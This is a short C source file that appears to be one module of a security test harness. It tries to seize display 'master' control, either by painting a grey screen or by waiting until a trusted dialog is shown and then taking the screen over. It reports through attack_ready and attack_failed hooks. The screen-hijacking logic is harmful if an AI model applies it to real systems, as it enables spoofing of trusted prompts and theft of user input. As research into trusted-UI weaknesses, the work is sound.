// SPDX-License-Identifier: Apache-2.0
#include <linux/capability.h>
#include <string.h>
#include <sys/prctl.h>

#include "master.h"
#include "process.h"
#include "report.h"

#define GREY	0x00808080u
#define SHOWN	1500	/* milliseconds until a dialog that has been started is on the screen */

static bool is_confined(void)
{
	return prctl(PR_CAPBSET_READ, CAP_SYS_PTRACE) != 1;
}

static int be_the_ree(struct screen *s)
{
	struct screen_buffer b;
	int ret = screen_become_master(s);

	if (!ret)
		ret = screen_make(s, GREY, &b);
	if (!ret)
		ret = screen_show(s, &b);
	attack_ready();
	return ret;
}

static int take_over(struct screen *s)
{
	attack_ready();
	process_wait_tui();
	attack_wait(SHOWN);
	return screen_become_master(s);
}

void master_get(struct screen *ret)
{
	int r = screen_open(ret);

	if (!r)
		r = is_confined() ? be_the_ree(ret) : take_over(ret);
	if (r)
		attack_failed("no way to become master: %s", strerror(-r));
}
